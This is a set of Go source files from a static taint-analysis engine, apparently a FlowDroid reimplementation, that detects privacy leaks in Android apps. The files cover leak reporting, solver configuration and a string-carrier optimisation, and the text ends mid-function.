		if s := l.Source(); s != nil {
			rep.SourceLabel = s.Source.Label
			if s.Stmt != nil {
				rep.Source = s.Stmt.String()
				rep.SourceMethod = s.Stmt.Method().String()
			}
		}
		for _, st := range l.Path() {
			rep.Path = append(rep.Path, fmt.Sprintf("%s @ %s", st, st.Method()))
		}
		out = append(out, rep)
	}
	return out
}
