package taint

import (
	"encoding/json"
	"fmt"
)

// LeakReport is a serialization-friendly view of one leak, used by the
// CLI's JSON output and any downstream tooling.
type LeakReport struct {
	// SourceLabel/SinkLabel are the rule labels ("device-id", "sms").
	SourceLabel string `json:"sourceLabel"`
	SinkLabel   string `json:"sinkLabel"`
	// Source/Sink render the statements with their containing methods.
	Source       string `json:"source"`
	SourceMethod string `json:"sourceMethod"`
	Sink         string `json:"sink"`
	SinkMethod   string `json:"sinkMethod"`
	// AccessPath is the tainted access path observed at the sink.
	AccessPath string `json:"accessPath"`
	// Path is the reconstructed statement trace, source first. It is a
	// witness, not part of the leak's identity: the trace follows the
	// abstraction's predecessor chain, which records whichever derivation
	// was discovered first, so it may differ across worker counts. The
	// key is always emitted (no omitempty) — the CLI's -json schema has
	// always carried it; CanonicalReport nulls it out but keeps the key.
	Path []string `json:"path"`
}

// Report converts the distinct leaks into serializable records.
func (r *Results) Report() []LeakReport {
	leaks := r.DistinctSourceSinkPairs()
	out := make([]LeakReport, 0, len(leaks))
	for _, l := range leaks {
		rep := LeakReport{
			SinkLabel:  l.SinkSpec.Label,
			Sink:       l.Sink.String(),
			SinkMethod: l.Sink.Method().String(),
		}
		if l.Abstraction != nil && l.Abstraction.AP != nil {
			rep.AccessPath = l.Abstraction.AP.String()
		}
		if s := l.Source(); s != nil {
			rep.SourceLabel = s.Source.Label
			if s.Stmt != nil {
				rep.Source = s.Stmt.String()
				rep.SourceMethod = s.Stmt.Method().String()
			}
		}
		for _, st := range l.Path() {
			rep.Path = append(rep.Path, fmt.Sprintf("%s @ %s", st, st.Method()))
		}
		out = append(out, rep)
	}
	return out
}

// CanonicalReport is Report with the path witnesses stripped: the
// schedule-independent identity of the leak set. Two runs over the same
// app under the same configuration produce identical canonical reports at
// any worker count.
func (r *Results) CanonicalReport() []LeakReport {
	out := r.Report()
	for i := range out {
		out[i].Path = nil
	}
	return out
}

// CanonicalJSON renders the canonical report as indented JSON — the form
// the cross-worker-count equivalence tests compare byte for byte.
func (r *Results) CanonicalJSON() ([]byte, error) {
	return json.MarshalIndent(r.CanonicalReport(), "", "  ")
}
