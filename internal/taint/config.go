package taint

import (
	"context"
	"fmt"
	"sort"
	"strings"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/sourcesink"
)

// Config tunes the taint engine. The zero value is not valid; use
// DefaultConfig.
type Config struct {
	// APLength is the maximal access-path length (the paper's default is
	// 5). Shorter paths widen taints and trade precision for speed.
	APLength int
	// EnableAliasing runs the on-demand backward alias solver. Disabling
	// it (an ablation) loses heap aliases entirely.
	EnableAliasing bool
	// EnableActivation tracks activation statements for alias taints.
	// Disabling it makes aliases active immediately — the
	// flow-insensitive behaviour of Andromeda the paper improves on
	// (Listing 3 would report a false leak at the first sink).
	EnableActivation bool
	// InjectContext injects the forward path-edge context into the
	// backward solver and vice versa. Disabling it (an ablation) spawns
	// alias searches from the tautological context, producing the
	// unrealizable-path false positives of Figure 3's "naive approach".
	InjectContext bool
	// FieldSensitive keeps per-field access paths. When false (an
	// ablation mimicking coarse tools), any field store taints the whole
	// base object.
	FieldSensitive bool
	// FlowSensitive controls strong updates on locals. When false, an
	// overwritten local stays tainted.
	FlowSensitive bool
	// ArrayIndexSensitive distinguishes array elements written and read
	// at constant indices. FlowDroid does not do this (the paper treats
	// indices conservatively); the commercial-tool baselines do, which is
	// why they avoid the ArrayAccess1 false positive.
	ArrayIndexSensitive bool
	// Wrapper is the library shortcut table; nil disables shortcuts and
	// falls back to the native default everywhere.
	Wrapper *Wrapper
	// MaxLeaks aborts after this many distinct leaks (0 = unlimited).
	MaxLeaks int
	// MaxPropagations bounds the solver's total path-edge insertions
	// (forward plus backward); 0 is unlimited. When the budget runs out
	// the analysis stops cleanly with Status == BudgetExhausted and the
	// leaks found so far.
	MaxPropagations int
}

// DefaultConfig mirrors the paper's FlowDroid configuration.
func DefaultConfig() Config {
	return Config{
		APLength:         5,
		EnableAliasing:   true,
		EnableActivation: true,
		InjectContext:    true,
		FieldSensitive:   true,
		FlowSensitive:    true,
		Wrapper:          DefaultWrapper(),
	}
}

// Leak is one reported flow from a source to a sink.
type Leak struct {
	// Sink is the sink call statement.
	Sink ir.Stmt
	// SinkSpec is the matched sink rule.
	SinkSpec sourcesink.Sink
	// Abstraction is the tainted fact that reached the sink.
	Abstraction *Abstraction
}

// Source returns the leak's source record.
func (l *Leak) Source() *SourceRecord {
	if l.Abstraction == nil {
		return nil
	}
	return l.Abstraction.Source
}

// String renders "source --> sink" with method context.
func (l *Leak) String() string {
	src := "<unknown source>"
	if s := l.Source(); s != nil && s.Stmt != nil {
		src = fmt.Sprintf("%s in %s", s.Stmt, s.Stmt.Method())
	}
	return fmt.Sprintf("%s  -->  %s in %s", src, l.Sink, l.Sink.Method())
}

// Path returns the reconstructed statement path from source to sink.
func (l *Leak) Path() []ir.Stmt {
	path := l.Abstraction.Path()
	if len(path) == 0 || path[len(path)-1] != l.Sink {
		path = append(path, l.Sink)
	}
	return path
}

// Status reports how a taint analysis run ended.
type Status int

const (
	// Completed means the solver reached its fixed point (or the MaxLeaks
	// cutoff, which is a configured success condition).
	Completed Status = iota
	// Cancelled means the context expired or was cancelled mid-solve; the
	// reported leaks are the partial set found so far.
	Cancelled
	// BudgetExhausted means MaxPropagations ran out before the fixed
	// point.
	BudgetExhausted
)

func (s Status) String() string {
	switch s {
	case Completed:
		return "completed"
	case Cancelled:
		return "cancelled"
	case BudgetExhausted:
		return "budget-exhausted"
	}
	return "unknown"
}

// Results is the outcome of a taint analysis run.
type Results struct {
	Leaks []*Leak
	// Stats carries solver counters for the benchmark harness.
	Stats Stats
	// Status tells whether the run completed or was truncated; a
	// truncated run's Leaks and Stats describe the work actually done.
	Status Status
}

// Stats are solver effort counters.
type Stats struct {
	// ForwardEdges and BackwardEdges count distinct path edges inserted
	// into the two solvers' jump tables.
	ForwardEdges  int
	BackwardEdges int
	AliasQueries  int
	// Propagations counts attempted propagations (including duplicates
	// the jump tables absorbed); this is the unit MaxPropagations charges.
	Propagations int
	// Summaries counts method summaries (end-of-method records) installed.
	Summaries int
	// PeakAbstractions is the number of distinct taint abstractions
	// interned over the run — the solver's fact-domain footprint.
	PeakAbstractions int
}

// PathEdges is the total of distinct forward and backward path edges.
func (s Stats) PathEdges() int { return s.ForwardEdges + s.BackwardEdges }

// DistinctSourceSinkPairs collapses leaks to unique (source stmt, sink
// stmt) pairs, the unit DroidBench-style scoring counts.
func (r *Results) DistinctSourceSinkPairs() []*Leak {
	type pairKey struct{ src, snk ir.Stmt }
	seen := make(map[pairKey]*Leak)
	var order []pairKey
	for _, l := range r.Leaks {
		var src ir.Stmt
		if s := l.Source(); s != nil {
			src = s.Stmt
		}
		k := pairKey{src, l.Sink}
		if _, ok := seen[k]; !ok {
			seen[k] = l
			order = append(order, k)
		}
	}
	out := make([]*Leak, 0, len(order))
	for _, k := range order {
		out = append(out, seen[k])
	}
	sort.Slice(out, func(i, j int) bool { return out[i].String() < out[j].String() })
	return out
}

// Render prints the leaks one per line, for CLI output.
func (r *Results) Render() string {
	leaks := r.DistinctSourceSinkPairs()
	if len(leaks) == 0 {
		return "no leaks found\n"
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d leak(s) found:\n", len(leaks))
	for i, l := range leaks {
		fmt.Fprintf(&sb, "  [%d] %s\n", i+1, l)
	}
	return sb.String()
}

// Analyze runs the full taint analysis over the ICFG with the given
// sources/sinks and configuration, seeding at the given entry methods.
// The context bounds the run: when it is cancelled or its deadline
// passes, the solver stops cleanly and returns the partial results with
// Status == Cancelled.
func Analyze(ctx context.Context, icfg *cfg.ICFG, mgr *sourcesink.Manager, cfgc Config, entries ...*ir.Method) *Results {
	e := newEngine(icfg, mgr, cfgc)
	return e.run(ctx, entries)
}
