package taint

import (
	"context"
	"fmt"
	"sort"
	"strings"

	"flowdroid/internal/cfg"
	"flowdroid/internal/ir"
	"flowdroid/internal/sourcesink"
)

// Config tunes the taint engine. The zero value is not valid; use
// DefaultConfig.
type Config struct {
	// APLength is the maximal access-path length (the paper's default is
	// 5). Shorter paths widen taints and trade precision for speed.
	APLength int
	// EnableAliasing runs the on-demand backward alias solver. Disabling
	// it (an ablation) loses heap aliases entirely.
	EnableAliasing bool
	// EnableActivation tracks activation statements for alias taints.
	// Disabling it makes aliases active immediately — the
	// flow-insensitive behaviour of Andromeda the paper improves on
	// (Listing 3 would report a false leak at the first sink).
	EnableActivation bool
	// InjectContext injects the forward path-edge context into the
	// backward solver and vice versa. Disabling it (an ablation) spawns
	// alias searches from the tautological context, producing the
	// unrealizable-path false positives of Figure 3's "naive approach".
	InjectContext bool
	// FieldSensitive keeps per-field access paths. When false (an
	// ablation mimicking coarse tools), any field store taints the whole
	// base object.
	FieldSensitive bool
	// FlowSensitive controls strong updates on locals. When false, an
	// overwritten local stays tainted.
	FlowSensitive bool
	// ArrayIndexSensitive distinguishes array elements written and read
	// at constant indices. FlowDroid does not do this (the paper treats
	// indices conservatively); the commercial-tool baselines do, which is
	// why they avoid the ArrayAccess1 false positive.
	ArrayIndexSensitive bool
	// StringCarriers enables the string-carrier fast path (TAJ-style):
	// java.lang.String / StringBuilder / StringBuffer operations get
	// compiled transfer functions at recognized call sites, and backward
	// alias searches on carrier bases are skipped where a bounded
	// backward-region scan proves the search is report-neutral. The leak
	// report is byte-identical with the flag on or off; only solver
	// effort (alias queries, allocations) changes.
	StringCarriers bool
	// Wrapper is the library shortcut table; nil disables shortcuts and
	// falls back to the native default everywhere.
	Wrapper *Wrapper
	// MaxLeaks aborts after this many distinct leaks (0 = unlimited). A
	// capped run ends with Status == LeakLimitReached so it is
	// distinguishable from an exhaustive one.
	MaxLeaks int
	// MaxPropagations bounds the solver's novel path-edge insertions
	// (forward plus backward); duplicates the jump tables absorb are
	// free. 0 is unlimited. When the budget runs out the analysis stops
	// cleanly with Status == BudgetExhausted and the leaks found so far.
	// With Workers > 1, workers already past the abort check may each
	// record one final insertion, so Stats.Propagations can exceed the
	// budget by at most Workers-1.
	MaxPropagations int
	// Cone, when non-nil, is the demand-driven query cone: the solver
	// prunes zero-fact exploration at its boundary (descending the zero
	// fact into a callee for which Relevant is false cannot contribute a
	// leak on a queried sink — such a call tree has no potential sources,
	// no queried sinks, and no static-field writes). Taint facts are
	// never pruned: a tainted value may pass through an irrelevant callee
	// and return. The Cone is fingerprint-neutral like the rest of the
	// taint configuration — it changes how much the solver explores,
	// never which upstream artifact it runs on.
	Cone *Cone
	// Summaries, when non-nil, is a persistent method-summary session
	// (see internal/summarystore): the solver consults it once per
	// method context, replays stored end summaries and subtree leaks on
	// hits instead of re-exploring the subtree, and hands complete
	// records back at the end of a Completed run. The session is
	// fingerprint-scoped by its creator — every setting above that
	// changes transfer-function behaviour must be part of that scope.
	// Like the Cone it never changes the leak report, only how much of
	// it is recomputed.
	Summaries Summaries
	// Workers is the solver worker-pool size. Values <= 1 drain the work
	// queue sequentially on the calling goroutine; higher values run that
	// many concurrent workers over the shared queue. For runs that reach
	// Status == Completed, the distinct leak set and the edge counts are
	// worker-count-independent — the exploded-supergraph closure is
	// confluent — only discovery order (and hence path witnesses) may
	// differ. A truncated run (budget, leak cap, cancellation) stops at a
	// schedule-dependent frontier, so its partial leak set and counters
	// may vary across worker counts.
	Workers int
}

// Cone is the solver's view of the reachability-cone pass (built in
// internal/cone, wired by the pipeline): a pruning predicate plus the
// cone statistics the run reports.
type Cone struct {
	// Relevant reports whether descending the zero exploration fact into
	// the method can matter to the queried sinks.
	Relevant func(*ir.Method) bool
	// Methods is the number of methods in the sink-reaching cone.
	Methods int
	// SkippedComponents counts the components dummy-main modeling left
	// out because they were entirely outside the cone.
	SkippedComponents int
}

// DefaultConfig mirrors the paper's FlowDroid configuration.
func DefaultConfig() Config {
	return Config{
		APLength:         5,
		EnableAliasing:   true,
		EnableActivation: true,
		InjectContext:    true,
		FieldSensitive:   true,
		FlowSensitive:    true,
		StringCarriers:   true,
		Wrapper:          DefaultWrapper(),
	}
}

// Leak is one reported flow from a source to a sink.
type Leak struct {
	// Sink is the sink call statement.
	Sink ir.Stmt
	// SinkSpec is the matched sink rule.
	SinkSpec sourcesink.Sink
	// Abstraction is the tainted fact that reached the sink.
	Abstraction *Abstraction
}

// Source returns the leak's source record.
func (l *Leak) Source() *SourceRecord {
	if l.Abstraction == nil {
		return nil
	}
	return l.Abstraction.Source
}

// String renders "source --> sink" with method context.
func (l *Leak) String() string {
	src := "<unknown source>"
	if s := l.Source(); s != nil && s.Stmt != nil {
		src = fmt.Sprintf("%s in %s", s.Stmt, s.Stmt.Method())
	}
	return fmt.Sprintf("%s  -->  %s in %s", src, l.Sink, l.Sink.Method())
}

// Path returns the reconstructed statement path from source to sink.
func (l *Leak) Path() []ir.Stmt {
	path := l.Abstraction.Path()
	if len(path) == 0 || path[len(path)-1] != l.Sink {
		path = append(path, l.Sink)
	}
	return path
}

// Status reports how a taint analysis run ended.
type Status int

const (
	// Completed means the solver reached its fixed point: every leak
	// reachable under the configuration has been found.
	Completed Status = iota
	// Cancelled means the context expired or was cancelled mid-solve; the
	// reported leaks are the partial set found so far.
	Cancelled
	// BudgetExhausted means MaxPropagations ran out before the fixed
	// point.
	BudgetExhausted
	// LeakLimitReached means the MaxLeaks cap cut the run short; exactly
	// the cap's worth of distinct leaks was recorded, and more may exist.
	LeakLimitReached
)

func (s Status) String() string {
	switch s {
	case Completed:
		return "completed"
	case Cancelled:
		return "cancelled"
	case BudgetExhausted:
		return "budget-exhausted"
	case LeakLimitReached:
		return "leak-limit-reached"
	}
	return "unknown"
}

// Results is the outcome of a taint analysis run.
type Results struct {
	Leaks []*Leak
	// Stats carries solver counters for the benchmark harness.
	Stats Stats
	// Status tells whether the run completed or was truncated; a
	// truncated run's Leaks and Stats describe the work actually done.
	Status Status
}

// Stats are solver effort counters.
type Stats struct {
	// ForwardEdges and BackwardEdges count distinct path edges inserted
	// into the two solvers' jump tables.
	ForwardEdges  int
	BackwardEdges int
	AliasQueries  int
	// GatedAliasQueries counts backward alias searches the string-carrier
	// fast path proved redundant and skipped. Always 0 when
	// Config.StringCarriers is off.
	GatedAliasQueries int
	// Propagations counts novel path-edge insertions (forward plus
	// backward); duplicates the jump tables absorb are not counted. This
	// is the unit MaxPropagations charges, and it always equals
	// ForwardEdges + BackwardEdges.
	Propagations int
	// Summaries counts method summaries (end-of-method records) installed.
	Summaries int
	// PeakAbstractions is the number of distinct taint abstractions
	// interned over the run — the solver's fact-domain footprint.
	PeakAbstractions int
	// Workers is the worker-pool size the run used (1 = sequential drain).
	Workers int
	// ConeMethods and SkippedComponents mirror the query cone the run was
	// pruned against (zero on whole-program runs).
	ConeMethods       int
	SkippedComponents int
	// Store reports the persistent summary store's effect on the run;
	// nil when no summary session was configured.
	Store *StoreStats
}

// PathEdges is the total of distinct forward and backward path edges.
func (s Stats) PathEdges() int { return s.ForwardEdges + s.BackwardEdges }

// leakOrd is the canonical sort key of a leak: (source method, source
// stmt index, sink method, sink stmt index, access path). Statement
// indices — not their rendered strings, which need not be unique within a
// method — make the order total and independent of worklist discovery
// order, so report output is stable across runs and worker counts.
type leakOrd struct {
	srcMethod string
	srcIdx    int
	snkMethod string
	snkIdx    int
	ap        string
}

func leakOrdOf(l *Leak) leakOrd {
	o := leakOrd{srcIdx: -1, snkIdx: -1}
	if s := l.Source(); s != nil && s.Stmt != nil {
		o.srcMethod = s.Stmt.Method().String()
		o.srcIdx = s.Stmt.Index()
	}
	if l.Sink != nil {
		o.snkMethod = l.Sink.Method().String()
		o.snkIdx = l.Sink.Index()
	}
	if l.Abstraction != nil && l.Abstraction.AP != nil {
		o.ap = l.Abstraction.AP.String()
	}
	return o
}

func (a leakOrd) less(b leakOrd) bool {
	switch {
	case a.srcMethod != b.srcMethod:
		return a.srcMethod < b.srcMethod
	case a.srcIdx != b.srcIdx:
		return a.srcIdx < b.srcIdx
	case a.snkMethod != b.snkMethod:
		return a.snkMethod < b.snkMethod
	case a.snkIdx != b.snkIdx:
		return a.snkIdx < b.snkIdx
	default:
		return a.ap < b.ap
	}
}

// DistinctSourceSinkPairs collapses leaks to unique (source stmt, sink
// stmt) pairs, the unit DroidBench-style scoring counts. The full leak
// set is put into canonical order before deduplication, so both the
// output order and the representative chosen for each pair are
// deterministic regardless of the order leaks were discovered in.
func (r *Results) DistinctSourceSinkPairs() []*Leak {
	sorted := append([]*Leak(nil), r.Leaks...)
	sort.SliceStable(sorted, func(i, j int) bool {
		return leakOrdOf(sorted[i]).less(leakOrdOf(sorted[j]))
	})
	type pairKey struct{ src, snk ir.Stmt }
	seen := make(map[pairKey]bool)
	out := make([]*Leak, 0, len(sorted))
	for _, l := range sorted {
		var src ir.Stmt
		if s := l.Source(); s != nil {
			src = s.Stmt
		}
		k := pairKey{src, l.Sink}
		if seen[k] {
			continue
		}
		seen[k] = true
		out = append(out, l)
	}
	return out
}

// FilterSinks returns a shallow copy of the results keeping only the
// leaks whose matched sink rule satisfies keep. Stats and Status carry
// over unchanged. This is the whole-program side of the query-equivalence
// contract: a query-mode run's canonical report must be byte-identical to
// the whole-program report filtered to the queried sink rules.
func (r *Results) FilterSinks(keep func(sourcesink.Sink) bool) *Results {
	out := &Results{Stats: r.Stats, Status: r.Status}
	for _, l := range r.Leaks {
		if keep(l.SinkSpec) {
			out.Leaks = append(out.Leaks, l)
		}
	}
	return out
}

// Render prints the leaks one per line, for CLI output.
func (r *Results) Render() string {
	leaks := r.DistinctSourceSinkPairs()
	if len(leaks) == 0 {
		return "no leaks found\n"
	}
	var sb strings.Builder
	fmt.Fprintf(&sb, "%d leak(s) found:\n", len(leaks))
	for i, l := range leaks {
		fmt.Fprintf(&sb, "  [%d] %s\n", i+1, l)
	}
	return sb.String()
}

// Analyze runs the full taint analysis over the ICFG with the given
// sources/sinks and configuration, seeding at the given entry methods.
// The context bounds the run: when it is cancelled or its deadline
// passes, the solver stops cleanly and returns the partial results with
// Status == Cancelled.
func Analyze(ctx context.Context, icfg *cfg.ICFG, mgr *sourcesink.Manager, cfgc Config, entries ...*ir.Method) *Results {
	e := newEngine(icfg, mgr, cfgc)
	return e.run(ctx, entries)
}
