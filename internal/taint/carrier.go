package taint

import (
	"sync"

	"flowdroid/internal/ir"
)

// carrier.go implements the string-carrier fast path (Config.StringCarriers)
// and the per-call-site memoization it rides on.
//
// TAJ's observation (Tripp et al., PLDI 2009) is that the string classes —
// java.lang.String, StringBuilder, StringBuffer — behave like primitive
// value carriers: their operations move taint between receiver, arguments
// and result in fixed per-method patterns, and none of them stores its
// receiver anywhere a heap analysis could observe. The engine pays full
// freight for them anyway: every wrapper gen on a receiver spawns a
// backward alias search, and every flow-function evaluation re-resolves
// the rule table and re-derives destination access paths.
//
// The fast path does two things at recognized carrier call sites:
//
//  1. Compiles the wrapper rules into a flat transfer table with the
//     destination access paths pre-interned, so evaluating the site is a
//     few pointer compares and one derive per triggered transfer — no rule
//     re-resolution and no slot dispatch per evaluation.
//  2. Skips the backward alias search on the receiver when a bounded
//     backward scan of the enclosing method proves the search is
//     report-neutral (aliasGateRedundant). This is the expensive half: on
//     builder-heavy code, most receiver alias queries are such no-ops —
//     the receiver was freshly allocated a few statements up and nothing
//     upstream ever reads it.
//
// Correctness contract: the compiled table is a faithful unrolling of the
// generic rule loop, so the generated facts are identical with the flag on
// or off; the alias gate is the only behavioral difference, and it fires
// only when the skipped search provably contributes no report-visible
// facts. The carrier equivalence suites pin this with byte-identical
// canonical reports across carriers on/off at workers 1/2/8.

// The carrier classes. Subclasses are not recognized (user code extending
// StringBuilder falls back to the generic wrapper path).
const (
	classString        = "java.lang.String"
	classStringBuilder = "java.lang.StringBuilder"
	classStringBuffer  = "java.lang.StringBuffer"
)

func isCarrierClass(name string) bool {
	switch name {
	case classString, classStringBuilder, classStringBuffer:
		return true
	}
	return false
}

// carrierOp classifies a modeled carrier operation; the classification is
// informational (stats, tests, docs) — the transfer behavior itself comes
// from the compiled rule table.
type carrierOp uint8

const (
	opNone      carrierOp = iota
	opAppend              // append: value arg -> receiver and result (result aliases the receiver)
	opInsert              // insert: value arg -> receiver and result; the index argument is taint-neutral
	opConcat              // concat: receiver or argument -> result
	opTransform           // toString/substring/trim/...: receiver -> result snapshot
	opValueOf             // valueOf/format: static, argument -> result
	opInit                // constructor: argument -> receiver
	opNeutral             // excluded methods (length, isEmpty, ...): no flows
	opOther               // modeled by rules fitting no named shape
)

func (op carrierOp) String() string {
	switch op {
	case opAppend:
		return "append"
	case opInsert:
		return "insert"
	case opConcat:
		return "concat"
	case opTransform:
		return "transform"
	case opValueOf:
		return "valueOf"
	case opInit:
		return "init"
	case opNeutral:
		return "neutral"
	case opOther:
		return "other"
	}
	return "none"
}

func classifyCarrierOp(name string) carrierOp {
	switch name {
	case "append":
		return opAppend
	case "insert":
		return opInsert
	case "concat":
		return opConcat
	case "valueOf", "format", "copyValueOf":
		return opValueOf
	case "init":
		return opInit
	case "toString", "substring", "trim", "toUpperCase", "toLowerCase",
		"replace", "reverse", "split", "toCharArray", "getBytes", "deleteCharAt":
		return opTransform
	}
	return opOther
}

// carrierXfer is one compiled transfer: when the from slot is tainted,
// derive the taint onto the pre-interned destination path. spawn marks
// heap destinations (receiver/argument) that require an alias search;
// toBase marks the receiver destination, the only one the gate may skip.
type carrierXfer struct {
	from   int
	dst    *AccessPath
	spawn  bool
	toBase bool
}

// callSite memoizes the static facts of one call statement: the resolved
// wrapper rules, the stub-dispatch flag, and (for carrier sites) the
// compiled transfer table. All fields are immutable after construction
// except the lazily computed alias gate.
type callSite struct {
	call   *ir.InvokeExpr
	result *ir.Local
	rules  []WrapperRule
	stub   bool

	carrier  bool
	op       carrierOp
	compiled []carrierXfer

	gateOnce sync.Once
	gate     bool
}

// siteOf returns the memoized record for call statement n, computing it on
// first use. Sites are static program facts, so racing workers compute
// identical values and LoadOrStore picks one winner.
func (e *engine) siteOf(n ir.Stmt) *callSite {
	if v, ok := e.sites.Load(n); ok {
		return v.(*callSite)
	}
	s := e.buildSite(n)
	actual, _ := e.sites.LoadOrStore(n, s)
	return actual.(*callSite)
}

func (e *engine) buildSite(n ir.Stmt) *callSite {
	call := ir.CallOf(n)
	s := &callSite{call: call, result: ir.CallResult(n), stub: e.hasStubTarget(n)}
	if e.conf.Wrapper != nil {
		s.rules = e.conf.Wrapper.RulesFor(e.icfg.Prog, call)
	}
	if e.conf.StringCarriers && s.stub && len(s.rules) > 0 {
		e.compileCarrier(s)
	}
	return s
}

// compileCarrier recognizes a carrier call site and unrolls its wrapper
// rules into the flat transfer table. The unrolling preserves the generic
// loop's rule and destination order exactly (dropping only destinations
// that can never materialize, e.g. a return slot with no result local), so
// carrierFlow generates the same facts in the same order as libraryFlow.
func (e *engine) compileCarrier(s *callSite) {
	cls := s.call.Ref.Class
	if s.call.Base != nil && s.call.Base.Type.IsRef() {
		cls = s.call.Base.Type.Name
	}
	if !isCarrierClass(cls) {
		return
	}
	neutral := true
	for _, r := range s.rules {
		for _, to := range r.To {
			neutral = false
			dst := e.slotPath(s, to)
			if dst == nil {
				continue
			}
			s.compiled = append(s.compiled, carrierXfer{
				from:   r.From,
				dst:    dst,
				spawn:  to != SlotReturn,
				toBase: to == SlotBase,
			})
		}
	}
	s.carrier = true
	if neutral {
		s.op = opNeutral
	} else {
		s.op = classifyCarrierOp(s.call.Ref.Name)
	}
}

// slotPath interns the access path a slot destination denotes at this
// site, or nil when the slot has no materialization (missing result local,
// non-local argument).
func (e *engine) slotPath(s *callSite, slot int) *AccessPath {
	switch slot {
	case SlotReturn:
		if s.result == nil {
			return nil
		}
		return e.in.local(s.result)
	case SlotBase:
		if s.call.Base == nil {
			return nil
		}
		return e.in.local(s.call.Base)
	default:
		if slot < 0 || slot >= len(s.call.Args) {
			return nil
		}
		if l, ok := s.call.Args[slot].(*ir.Local); ok {
			return e.in.local(l)
		}
		return nil
	}
}

// slotTainted reports whether d2's access path roots at the slot. Same
// semantics as libraryFlow's taintsSlot closure, shared so the compiled
// and generic paths cannot drift.
func slotTainted(call *ir.InvokeExpr, ap *AccessPath, slot int) bool {
	switch slot {
	case SlotBase:
		return call.Base != nil && ap.Base == call.Base
	default:
		if slot < 0 || slot >= len(call.Args) {
			return false
		}
		l, ok := call.Args[slot].(*ir.Local)
		return ok && ap.Base == l
	}
}

// carrierFlow evaluates a compiled carrier site: the direct transfer
// functions of the string-carrier domain. Facts are identical to the
// generic wrapper path; the alias search on the receiver is skipped (and
// counted as gated) when the site's gate proves it report-neutral.
func (e *engine) carrierFlow(n ir.Stmt, si *callSite, d1, d2 *Abstraction) []*Abstraction {
	ap := d2.AP
	var outs []*Abstraction
	for i := range si.compiled {
		x := &si.compiled[i]
		if !slotTainted(si.call, ap, x.from) {
			continue
		}
		na := e.ai.derive(d2, x.dst, n)
		outs = append(outs, na)
		if !x.spawn {
			continue
		}
		if x.toBase && e.carrierGate(n, si) {
			e.stats.gatedAliasQueries.Add(1)
			continue
		}
		e.spawnAliasSearch(n, d1, na)
	}
	return outs
}

// carrierGate lazily decides whether the receiver alias search at this
// site can be skipped. The gate only ever fires under the default solver
// shape — aliasing, activation statements and flow-sensitive strong
// updates all on — because the redundancy proof leans on activation
// semantics (an alias fact born from the skipped search could only become
// leak-relevant by crossing its activation statement).
func (e *engine) carrierGate(n ir.Stmt, si *callSite) bool {
	si.gateOnce.Do(func() {
		if !e.conf.EnableAliasing || !e.conf.EnableActivation || !e.conf.FlowSensitive || si.call.Base == nil {
			return
		}
		si.gate = e.aliasGateRedundant(n, si.call.Base)
	})
	return si.gate
}

// gateRegionCap bounds the backward-region scan; methods with larger
// upstream regions keep the full alias search.
const gateRegionCap = 128

// aliasGateRedundant proves that the backward alias search a carrier gen
// on `base` at site n would spawn cannot contribute report-visible facts.
// The search walks backward from n and forward-injects the inactive alias
// at assignments it crosses; skipping it is sound when:
//
//   - base is not a parameter or the receiver of the enclosing method (a
//     param-rooted alias maps back into callers via returnFlow);
//   - no call site in the method can transitively re-enter the method
//     (otherwise a fact seeded outside the scanned region could activate
//     early at such a site instead of at n);
//   - every statement backward-reachable from n either terminates the
//     walk at a definition of base whose value originates there (new,
//     constant — the alias chain provably ends) or neither reads base nor
//     captures an alias of it. Receiver-only stub calls on base are
//     allowed when their rules keep receiver taint confined to receiver
//     and result (baseRulesConfined) and the result is unused — then the
//     injected alias can only re-derive facts that already exist.
//
// Facts the injected alias would create downstream of n are inactive with
// activation n and can never flow backward over n, so only the upstream
// region needs scanning; the region is bounded by gateRegionCap.
func (e *engine) aliasGateRedundant(n ir.Stmt, base *ir.Local) bool {
	m := n.Method()
	if m == nil || base == m.This {
		return false
	}
	for _, p := range m.Params {
		if p == base {
			return false
		}
	}
	for _, s := range m.Body() {
		if ir.IsCall(s) && e.canActivate(s, n) {
			return false
		}
	}
	seen := map[ir.Stmt]bool{n: true}
	stack := make([]ir.Stmt, 0, 16)
	push := func(s ir.Stmt) {
		if !seen[s] {
			seen[s] = true
			stack = append(stack, s)
		}
	}
	for _, p := range e.icfg.PredsOf(n) {
		push(p)
	}
	for len(stack) > 0 {
		if len(seen) > gateRegionCap {
			return false
		}
		s := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		kills, safe := e.gateStep(s, base)
		if !safe {
			return false
		}
		if kills {
			continue
		}
		if s.Index() == 0 {
			// Reached the method entry without a killing definition: base
			// flows in from outside the modeled region. (Unreachable for
			// verified IR — non-param locals are defined before use — but
			// stay conservative.)
			return false
		}
		for _, p := range e.icfg.PredsOf(s) {
			push(p)
		}
	}
	return true
}

// gateStep examines one backward-region statement. kills reports that the
// statement defines base from a fresh value (the scan need not look above
// it); !safe aborts the gate — the statement reads base, captures an
// alias, or is of a kind the scan does not model.
func (e *engine) gateStep(s ir.Stmt, base *ir.Local) (kills, safe bool) {
	if call := ir.CallOf(s); call != nil {
		result := ir.CallResult(s)
		for _, arg := range call.Args {
			if l, ok := arg.(*ir.Local); ok && l == base {
				return false, false
			}
		}
		if call.Base == base {
			if result != nil || e.hasBodiedCallee(s) || !e.baseRulesConfined(s) {
				return false, false
			}
			return false, true
		}
		if result == base {
			if e.hasBodiedCallee(s) {
				// The backward walk would map the result into the callee.
				return false, false
			}
			// A bodyless call defines base: the alias chain ends here.
			return true, true
		}
		return false, true
	}
	switch st := s.(type) {
	case *ir.AssignStmt:
		if valueReadsLocal(st.RHS, base) {
			return false, false
		}
		switch lhs := st.LHS.(type) {
		case *ir.Local:
			if lhs != base {
				return false, true
			}
			switch st.RHS.(type) {
			case *ir.New, *ir.NewArray, *ir.Const:
				return true, true
			default:
				// Copy/cast/load into base: the alias chain continues into
				// another location — the search is load-bearing.
				return false, false
			}
		case *ir.FieldRef:
			if lhs.Base == base {
				return false, false
			}
			return false, true
		case *ir.ArrayRef:
			if lhs.Base == base || valueReadsLocal(lhs.Index, base) {
				return false, false
			}
			return false, true
		case *ir.StaticFieldRef:
			return false, true
		default:
			return false, false
		}
	case *ir.ReturnStmt:
		if st.Value != nil && valueReadsLocal(st.Value, base) {
			return false, false
		}
		return false, true
	case *ir.IfStmt, *ir.GotoStmt, *ir.NopStmt:
		// Conditions are opaque in this IR; no operands to read.
		return false, true
	default:
		return false, false
	}
}

// valueReadsLocal reports whether evaluating v reads l.
func valueReadsLocal(v ir.Value, l *ir.Local) bool {
